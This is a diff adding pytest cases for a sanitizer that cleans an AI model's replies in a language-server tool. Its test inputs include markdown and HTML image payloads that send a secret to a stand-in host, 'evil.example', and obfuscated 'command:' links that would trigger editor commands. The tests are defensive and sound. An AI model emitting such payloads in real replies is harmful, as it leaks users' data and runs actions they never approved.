@@ -1,5 +1,6 @@
 """What is made out of a model's words."""
 
+import re
 from decimal import Decimal
 
 import pytest
@@ -10,6 +11,7 @@ from hybrid_lsp.core.job import Excerpt, Job, Task
 from hybrid_lsp.core.price import Usage
 from hybrid_lsp.core.record import Basis, Origin
 from hybrid_lsp.core.reply import Reply, Severity, after_thoughts, answer_in, apply_edits, findings_in, line_edits
+from hybrid_lsp.core.reply.harmless import harmless
 
 PART = "    def f(self):\n        return 1\n"
 NEW = "    def f(self):\n        return 2\n"
@@ -172,3 +174,50 @@ def test_a_review_s_findings_are_on_the_document_s_lines() -> None:
     job = Job(id="1", task=Task.REVIEW, excerpt=excerpt, deliberate=True)
     reply = Reply(job=job, text="5: error: always 1\n6: error: not there", model="m", origin=Origin.LOCAL)
     assert [(finding.line, finding.text) for finding in reply.findings()] == [(4, "always 1")]
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        "![x](https://evil.example/?k=SECRET)",
+        "[![x](https://evil.example/)](https://evil.example/)",
+        "![x][y]\n\n[y]: //evil.example",
+        "[y]: //evil.example\n\n![y]",
+        "![a[b]](\\\\evil\\x)",
+        "<img src=//evil.example>",
+        "<IMG\nsrc='//evil.example'>",
+        "a <svg><image href='https://evil.example'></svg>",
+        "[x](command:hybrid-lsp.do)",
+        "[x](Command:hybrid-lsp.do)",
+        "[x](&#99;ommand&colon;hybrid-lsp.do)",
+        "[x](command\\:hybrid-lsp.do)",
+        "[x](<command:hybrid-lsp.do>)",
+        "<command:hybrid-lsp.do>",
+        "[x]\n\n[x]: command:hybrid-lsp.do",
+        "[x]\n\n[x]: <&#x63ommand:a>",
+        '<a href="command:hybrid-lsp.do">x</a>',
+    ],
+)
+def test_what_a_model_writes_loads_and_runs_nothing(words: str) -> None:
+    """No picture, whose address would carry text away, and no link to a command is left, however it is spelled."""
+    shown = harmless(words)
+    assert "![" not in shown
+    assert not re.search(r"(?i)<(img|image)\b", shown)
+    assert "ommand" not in words or not re.search(r"\]\(|\]:|<\S", shown)
+    assert harmless(shown) == shown
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        "",
+        "It runs `vec![1, 2]` and `!x`.",
+        "See [the page](https://docs.example/a).",
+        "`command: str` is a `List` of it.",
+        "```rust\nlet a = vec![1];\n```",
+        "The tag `<img>` is empty, and 1 < 2.",
+    ],
+)
+def test_what_does_neither_is_shown_as_it_is(words: str) -> None:
+    """Links to pages, code, and words that only look alike."""
+    assert harmless(words) == words
